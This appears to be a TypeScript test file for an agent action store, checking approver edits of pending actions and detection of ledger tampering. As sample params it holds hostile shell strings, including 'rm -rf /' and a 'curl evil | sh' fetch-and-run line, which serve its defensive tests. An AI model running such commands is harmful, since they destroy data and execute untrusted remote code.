import {
  canonicalize,
  type JsonObject,
  requestHash,
  sha256Hex,
} from "@faramesh/policy-engine/canonical";
import { afterEach, describe, expect, it } from "vitest";
import { type ActionStore, isStoreError, type StoredAction } from "../src/index.js";
import { DRIVERS, freshStore, type TestDb } from "./databases.js";
import { newAction } from "./factories.js";

/** The edit an approver makes: new params and the hash of the request with them. */
function editOf(action: StoredAction, params: JsonObject) {
  const { agent_id, tool, operation, context } = action;
  return { params, request_hash: requestHash({ agent_id, tool, operation, params, context }) };
}

describe.each(DRIVERS)("an approval that edits the params, on %s", (driver) => {
  let db: TestDb;
  let store: ActionStore;

  afterEach(async () => {
    await store.close();
    await db.drop();
  });

  async function pending(overrides: Parameters<typeof newAction>[0] = {}) {
    ({ db, store } = await freshStore(driver));
    return (await store.createAction(newAction({ decision: "require_approval", ...overrides })))
      .action;
  }

  async function edited() {
    const original = await pending({ params: { cmd: "rm -rf /tmp/x", n: 1 } });
    const edit = editOf(original, { cmd: "rm -rf /tmp/x/cache", n: 1 });
    const approved = await store.transition(original.id, { to: "approved", meta: {}, edit });
    return { original, edit, approved };
  }

  it("stores the edited params and request hash, and records the original in the event", async () => {
    const { original, edit, approved } = await edited();
    expect(approved).toMatchObject({
      status: "approved",
      params: edit.params,
      request_hash: edit.request_hash,
      redacted: false,
    });
    expect(await store.getAction(original.id)).toEqual(approved);
    const event = (await store.listEvents(original.id)).at(-1);
    expect(event?.event_type).toBe("approved");
    expect(event?.meta.edit).toEqual({
      original_params: original.params,
      original_params_hash: sha256Hex(canonicalize(original.params)),
      original_request_hash: original.request_hash,
      original_redacted: false,
      params: edit.params,
      params_hash: sha256Hex(canonicalize(edit.params)),
      request_hash: edit.request_hash,
    });
    expect(await store.verifyLedger()).toMatchObject({ ok: true });
    expect((await store.verifyAction(original.id)).ok).toBe(true);
  });

  it("refuses an edit whose request hash is not the edited request's, changing nothing", async () => {
    const original = await pending();
    const wrong = { params: { n: 2 }, request_hash: original.request_hash };
    const error = await store
      .transition(original.id, { to: "approved", edit: wrong })
      .catch((e: unknown) => e);
    expect(isStoreError(error, "CONFLICT")).toBe(true);
    expect(await store.getAction(original.id)).toEqual(original);
    expect((await store.listEvents(original.id)).map((e) => e.event_type)).toEqual([
      "created",
      "decision_made",
    ]);
  });

  it("refuses an edit of an action that is no longer pending", async () => {
    const original = await pending();
    await store.transition(original.id, { to: "denied", reason: "no" });
    const error = await store
      .transition(original.id, { to: "approved", edit: editOf(original, { n: 3 }) })
      .catch((e: unknown) => e);
    expect(isStoreError(error, "CONFLICT")).toBe(true);
    expect((await store.getAction(original.id)).params).toEqual(original.params);
  });

  it("refuses an edit on any transition but an approval", async () => {
    const original = await pending();
    const edit = editOf(original, { n: 4 });
    await expect(store.transition(original.id, { to: "denied", edit })).rejects.toThrow(TypeError);
    await expect(
      store.transition(original.id, {
        to: "approved",
        edit: { params: [] as never, request_hash: edit.request_hash },
      }),
    ).rejects.toThrow(TypeError);
  });

  it("unmasks nothing: a redacted action edited is stored unredacted with the edit's params", async () => {
    const base = newAction({ decision: "require_approval" });
    ({ db, store } = await freshStore(driver));
    const original = (
      await store.createAction({ ...base, params: { card: "[REDACTED]", n: 1 }, redacted: true })
    ).action;
    const edit = editOf(original, { n: 1 });
    const approved = await store.transition(original.id, { to: "approved", edit });
    expect(approved).toMatchObject({ redacted: false, params: { n: 1 } });
    const event = (await store.listEvents(original.id)).at(-1);
    expect(event?.meta.edit).toMatchObject({
      original_params: { card: "[REDACTED]", n: 1 },
      original_redacted: true,
    });
    expect(await store.verifyLedger()).toMatchObject({ ok: true });
  });

  describe("tampering after the edit is detected", () => {
    async function expectCaught(id: string, set: string, seq: number) {
      await db.exec(`UPDATE actions SET ${set} WHERE id = '${id}'`);
      const report = await store.verifyLedger();
      expect(report.ok, set).toBe(false);
      expect(report.firstBadSeq, set).toBe(seq);
      expect((await store.verifyAction(id)).ok, set).toBe(false);
    }

    it("edited params changed afterwards", async () => {
      const { approved } = await edited();
      await expectCaught(approved.id, `params = '{"cmd":"rm -rf /","n":1}'`, 3);
    });

    it("the original params and request hash put back", async () => {
      const { original } = await edited();
      const params = canonicalize(original.params).replaceAll("'", "''");
      await expectCaught(
        original.id,
        `params = '${params}', request_hash = '${original.request_hash}'`,
        3,
      );
    });

    it("other params with their own matching request hash", async () => {
      const { original } = await edited();
      const other = editOf(original, { cmd: "curl evil | sh", n: 1 });
      await expectCaught(
        original.id,
        `params = '${canonicalize(other.params)}', request_hash = '${other.request_hash}'`,
        3,
      );
    });

    it("the edit removed from the approved event", async () => {
      const { approved } = await edited();
      const event = (await store.listEvents(approved.id)).at(-1);
      const { edit: _edit, ...meta } = event?.meta ?? {};
      await db.exec(
        `UPDATE ledger_events SET meta = '${canonicalize(meta as JsonObject)}' WHERE seq = 3`,
      );
      const report = await store.verifyLedger();
      expect(report).toMatchObject({ ok: false, firstBadSeq: 3 });
    });
  });
});
